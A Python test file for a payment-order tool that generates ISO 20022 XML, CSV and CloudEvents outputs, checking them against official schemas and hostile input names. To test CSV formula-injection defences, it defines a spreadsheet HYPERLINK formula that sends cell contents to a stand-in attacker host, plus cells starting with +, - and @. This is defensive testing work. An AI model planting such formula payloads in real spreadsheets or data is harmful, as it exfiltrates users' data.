"""What the run writes, checked against schemas this project did not write and against hostile text."""

from __future__ import annotations

import csv
import json
from decimal import Decimal
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from lxml import etree

from conformity.xmlsafe import parse_xml
from tests.conftest import official as official_file
from tests.payments.builders import epc_problems, events_for, installation, pain001_schema
from tests.payments.workspace import Workspace

PAIN = "{urn:iso:std:iso:20022:tech:xsd:pain.001.001.09}"
HOSTILE_VENDOR = 'Acme, "Santé" & Co\nLine two; =HYPERLINK("x")\r\n\ttab'
HOSTILE_SITE = 'CHU "Nord",\nbâtiment <B> & annexe'


@pytest.fixture(scope="module", name="pain001_schema")
def pain001_schema_fixture() -> etree.XMLSchema:
    return pain001_schema()


@pytest.fixture(scope="module")
def cloudevents_validator(official_schemas: Path) -> jsonschema.Draft7Validator:
    path = official_schemas / "cloudevents" / "cloudevents.json"
    official_file("the official CloudEvents JSON Schema", path if path.is_file() else None)  # fails when CI=true
    schema = json.loads(path.read_text(encoding="utf-8"))
    jsonschema.Draft7Validator.check_schema(schema)
    return jsonschema.Draft7Validator(schema, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER)


@pytest.fixture
def paid_run(ws: Workspace, tmp_path: Path) -> tuple[Workspace, Any, list[dict[str, Any]]]:
    """Three paid installations (one with hostile names everywhere) and one held for missing bank details."""
    ws.label(vendor_name=HOSTILE_VENDOR, software_name='Dossier "patient", v3\n')
    ws.label(vendor="nobank", software="nobank-ehr")
    payees = tmp_path / "payees.toml"
    payees.write_text('format = "usine.payees/1"\n[vendors.acme]\nname = """' + HOSTILE_VENDOR.replace("\\", "")
                      + '"""\niban = "FR7630004000031234567890143"\nbic = "BNPAFRPPXXX"\n', encoding="utf-8")
    ws.payees = payees
    events = (events_for(installation("750100011", "M", site_name=HOSTILE_SITE), 5)
              + events_for(installation("690200022", "L"), 6) + events_for(installation("130300033", "S"), 5)
              + events_for(installation("750100099", "S", vendor="nobank", software="nobank-ehr"), 5))
    r = ws.run(ws.events("e.jsonl", events))
    assert r.returncode == 0, r.stderr
    return ws, r, events


def test_pain001_validates_against_the_iso20022_schema(paid_run: Any, pain001_schema: etree.XMLSchema) -> None:
    _, r, _ = paid_run
    [path] = r.pain_files()
    doc = parse_xml(path.read_bytes(), source=str(path))
    assert pain001_schema.validate(doc.getroottree()), pain001_schema.error_log
    amounts = [Decimal(a.text) for a in doc.iter(f"{PAIN}InstdAmt")]
    assert sorted(amounts) == [Decimal("28000.00"), Decimal("62000.00"), Decimal("115000.00")]
    assert Decimal(doc.findtext(f".//{PAIN}GrpHdr/{PAIN}CtrlSum")) == sum(amounts)
    assert doc.findtext(f".//{PAIN}GrpHdr/{PAIN}NbOfTxs") == "3"
    assert doc.findtext(f".//{PAIN}DbtrAcct/{PAIN}Id/{PAIN}IBAN") == "FR3130001000640000000000A16"
    creditors = {n.text for n in doc.iter(f"{PAIN}Nm")}
    flattened = "Acme, Sante + Co Line two, HYPERLINK( x ) tab"
    assert flattened in creditors  # one line in the EPC Latin set (test_epc.py), still the vendor's name
    assert all(len(n) <= 70 and "\n" not in n for n in creditors)
    assert not epc_problems(path.read_bytes())  # every text field of every order: the EPC set and lengths
    msg_id = doc.findtext(f".//{PAIN}MsgId")
    assert path.name == f"pain001-{msg_id}.xml" and len(msg_id) <= 35
    assert {o["msg_id"] for o in r.orders if o["status"] == "ordered"} == {msg_id}


def test_orders_csv_keeps_hostile_names_intact(paid_run: Any) -> None:
    _, r, _ = paid_run
    with open(r.out / "payment-orders.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by_site = {row["site_id"]: row for row in rows}
    assert by_site["750100011"]["site_name"] == HOSTILE_SITE
    assert by_site["750100011"]["vendor_name"] == HOSTILE_VENDOR
    assert by_site["750100011"]["creditor_name"] == HOSTILE_VENDOR.replace("\r\n", "\n")  # TOML normalises
    assert by_site["750100011"]["software_name"] == "ACME-EHR"  # as the installation reports it
    assert by_site["750100099"]["status"] == "held" and by_site["750100099"]["iban"] == ""
    assert len(rows) == 4
    with open(r.out / "totals.csv", encoding="utf-8", newline="") as fh:
        totals = {row["vendor_id"]: row for row in csv.DictReader(fh)}
    assert totals["acme"]["vendor_name"] == HOSTILE_VENDOR
    assert totals["acme"]["amount_total"] == "205000.00" and totals["nobank"]["amount_held"] == "28000.00"


def test_refusal_csv_keeps_hostile_text_intact(ws: Workspace) -> None:
    ws.label()
    weird = installation("750100011", "M", software='evil,"ehr"\nx', vendor="acme")
    r = ws.run(ws.events("e.jsonl", events_for(weird, 1)))
    [row] = [x for x in r.csv("refusals.csv") if x["kind"] == "event"]
    assert row["software_id"] == 'evil,"ehr"\nx' and row["reason"] == "no-label"


def test_every_event_in_the_outputs_validates_against_the_official_cloudevents_schema(
        paid_run: Any, cloudevents_validator: jsonschema.Draft7Validator) -> None:
    _, r, inputs = paid_run
    proofs = [json.loads(line) for line in (r.out / "payment-proofs.jsonl").read_text().splitlines()]
    assert len(proofs) == 4  # three ordered, one held: each with the events that proved it
    by_id = {e["id"]: e for e in inputs}
    seen = 0
    for proof in proofs:
        for ev in proof["events"]:
            errors = list(cloudevents_validator.iter_errors(ev))
            assert not errors, errors
            assert ev == by_id[ev["id"]]  # exactly as received
            seen += 1
    assert seen == 5 * 4


def test_outputs_are_complete_files_and_leave_no_scratch(paid_run: Any) -> None:
    _, r, _ = paid_run
    names = sorted(p.name for p in r.out.iterdir())
    assert [n for n in names if n.startswith(".")] == []
    assert {"payment-orders.csv", "payment-proofs.jsonl", "totals.csv", "refusals.csv", "refusals.json",
            "summary.json"} <= set(names)
    summary = r.summary
    assert summary["format"] == "usine.pay-run/1" and summary["orders_held"] == 1
    assert all(Path(p).exists() for p in summary["outputs"])


FORMULA_SITE = '=HYPERLINK("http://evil.example/?"&A1,"Site 750100011")'


def test_no_csv_cell_from_outside_is_a_spreadsheet_formula(ws: Workspace, tmp_path: Path) -> None:
    """CWE-1236: a vendor's site name, vendor name, account holder or event attribute that starts with = + - @ TAB CR
    is written with a ' in front in every CSV (the JSON outputs keep it as it is); usine's own amounts are numbers."""
    ws.label(vendor_name="-Acme Santé")
    payees = tmp_path / "payees.toml"
    payees.write_text('format = "usine.payees/1"\n[vendors.acme]\nname = "@Acme SAS"\n'
                      'iban = "FR7630004000031234567890143"\nbic = "BNPAFRPPXXX"\n', encoding="utf-8")
    ws.payees = payees
    unlabelled = installation("750100022", "M", software="+cmd", vendor="acme")
    r = ws.run(ws.events("e.jsonl", events_for(installation("750100011", "M", site_name=FORMULA_SITE), 5)
                         + events_for(unlabelled, 1, first=50)))
    assert r.returncode == 0, r.stderr
    [order] = r.orders
    assert order["site_name"] == "'" + FORMULA_SITE and order["vendor_name"] == "'-Acme Santé"
    assert order["creditor_name"] == "'@Acme SAS" and order["amount"] == "62000.00" and order["site_id"] == "750100011"
    [total] = r.csv("totals.csv")
    assert total["vendor_name"] == "'-Acme Santé" and total["amount_total"] == "62000.00"
    [refused] = [x for x in r.csv("refusals.csv") if x["kind"] == "event"]  # written in bulk by the engine
    assert refused["software_id"] == "'+cmd" and refused["reason"] == "no-label"
    assert [x["software_id"] for x in r.refusals if x["kind"] == "event"] == ["+cmd"]  # JSON: as received
    proof = json.loads((r.out / "payment-proofs.jsonl").read_text().splitlines()[0])
    assert proof["events"][0]["data"]["site"]["name"] == FORMULA_SITE
